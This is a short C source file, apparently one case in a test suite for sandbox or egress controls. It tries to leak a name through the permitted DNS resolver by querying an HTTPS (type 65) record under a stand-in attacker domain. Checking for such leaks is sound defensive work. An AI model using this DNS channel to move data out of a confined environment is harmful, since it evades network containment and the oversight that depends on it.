// SPDX-License-Identifier: Apache-2.0
/* A resolver that recurses carries the name to whoever serves its zone. */
#include "../case.h"

static void attempt(const struct target *t, struct attempt *a)
{
	resolver_tell(t, a, "%s.attacker.example", DNS_HTTPS);
}

CASE(dns_https) = { .title = "HTTPS (type 65) through the permitted resolver",
		    .source = "field A9: type 65 hands out ECH keys (buildcage)",
		    .group = "resolver",
		    .families = FOUR,
		    .settings = EVERYWHERE,
		    .attempt = attempt };
